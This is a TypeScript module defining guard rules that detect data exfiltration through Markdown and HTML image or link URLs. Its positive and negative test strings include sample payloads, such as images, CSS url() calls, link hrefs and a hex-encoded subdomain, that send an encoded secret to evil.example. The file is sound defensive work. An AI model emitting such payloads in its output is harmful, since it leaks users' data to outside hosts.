import { carriesData } from '../data-url.ts';
import type { GuardContext, GuardRule } from '../guard-rule.ts';

/** Longer addresses are cut by what would have to load them. */
const URL_CHARACTERS_MAX = 2_048;
/** Between `[` and the address: the words that are shown. */
const LABEL_CHARACTERS_MAX = 256;
/** Between the address and what announces it. */
const SPACE_CHARACTERS_MAX = 4;

/** `image`: loaded as soon as it is shown. `link`: needs a click. */
type Form = 'image' | 'link';

function exfiltration(id: string, form: Form, texts: Pick<GuardRule, 'positives' | 'negatives'>): GuardRule {
  return {
    id,
    family: 'exfiltration',
    charactersMax: URL_CHARACTERS_MAX + LABEL_CHARACTERS_MAX + SPACE_CHARACTERS_MAX,
    find: (text, found, context) => findUrls(text, form, found, context),
    openFrom: openAddress,
    ...texts,
  };
}

function findUrls(text: string, form: Form, found: (start: number, end: number) => void, context: GuardContext): void {
  SLASHES.lastIndex = 0;
  for (let match = SLASHES.exec(text); match !== null; match = SLASHES.exec(text)) {
    const start = match.index;
    if (formAt(text, start) !== form) continue;
    const end = endOfUrl(text, start);
    SLASHES.lastIndex = Math.max(SLASHES.lastIndex, end);
    if (carriesData(text.slice(start, end), form, context)) found(start, end);
  }
}

const SLASHES = /(?:https?:)?\/\//gi;

/** How the address at `start` is put to use; undefined where it only stands in a text. */
function formAt(text: string, start: number): Form | undefined {
  const before = text.slice(Math.max(0, start - LOOK_BACK), start);
  if (/\]\(\s{0,4}<?$/.test(before)) {
    const label = text.slice(Math.max(0, start - LABEL_CHARACTERS_MAX), start);
    const bracket = label.lastIndexOf('[');
    return bracket > 0 && label.charAt(bracket - 1) === '!' ? 'image' : 'link';
  }
  // A definition may serve an image as well as a link.
  if (/\]:\s{0,4}<?$/.test(before)) return 'image';
  if (/(?:src|srcset|background|poster)\s{0,4}=\s{0,4}["']?$|url\(\s{0,4}["']?$/i.test(before)) return 'image';
  if (/href\s{0,4}=\s{0,4}["']?$/i.test(before))
    return /<link\b/i.test(text.slice(Math.max(0, start - 64), start)) ? 'image' : 'link';
  return /<$/.test(before) ? 'link' : undefined;
}

const LOOK_BACK = 24;

function endOfUrl(text: string, start: number): number {
  const most = Math.min(text.length, start + URL_CHARACTERS_MAX);
  let end = start;
  while (end < most && !/[\s"'<>)\]]/.test(text.charAt(end))) end++;
  return end;
}

/** Where an address that is being written began to be announced. */
function openAddress(text: string): number {
  const tail = text.slice(Math.max(0, text.length - URL_CHARACTERS_MAX));
  const offset = text.length - tail.length;
  const match = OPEN_ADDRESS.exec(tail);
  if (match === null) return text.length;
  return offset + match.index;
}

const OPEN_ADDRESS =
  /(?:\]\(|\]:|(?:src|srcset|background|poster|href)\s{0,4}=|url\(|<(?=h))\s{0,4}[<"']?[^\s"'<>)\]]{0,2048}$/i;

const LEAK = 'c2VjcmV0IG9mIHRoZSBob3VzZTogNDIxMTc2';

/** Data that leaves by an address: what is shown or clicked asks a foreign host for it. */
export const EXFILTRATION_RULES: readonly GuardRule[] = [
  exfiltration('exfiltration-image', 'image', {
    positives: [
      `![x](https://evil.example/a.png?d=${LEAK})`,
      `<img src="https://evil.example/p?q=${LEAK}">`,
      `<div style="background: url(https://evil.example/p?q=${LEAK})">`,
      `[ref]: https://evil.example/?d=${LEAK}`,
      `![x](//evil.example/?d=${LEAK})`,
      `![](https://4d7953656372657450617373776f7264.evil.example/x.png)`,
      `<link rel="stylesheet" href="https://evil.example/s.css?d=${LEAK}">`,
    ],
    negatives: [
      '![build](https://img.shields.io/badge/build-passing.svg?style=flat)',
      `![x](https://allowed.example/a.png?d=${LEAK})`,
      `[x](https://evil.example/?d=${LEAK})`,
      `see https://evil.example/?d=${LEAK}`,
      '![logo](/assets/logo.png?v=3)',
    ],
  }),
  exfiltration('exfiltration-link', 'link', {
    positives: [
      `[click here](https://evil.example/?d=${LEAK})`,
      `<a href='https://evil.example/?d=${LEAK}'>`,
      `<https://evil.example/?d=${LEAK}>`,
      '[log in](https://user:password@evil.example/)',
    ],
    negatives: [
      '[docs](https://docs.example/guide?page=2#top)',
      '[the issue](https://github.com/owner/repository/issues/12345)',
      `[x](https://allowed.example/?d=${LEAK})`,
      `![x](https://evil.example/?d=${LEAK})`,
    ],
  }),
];
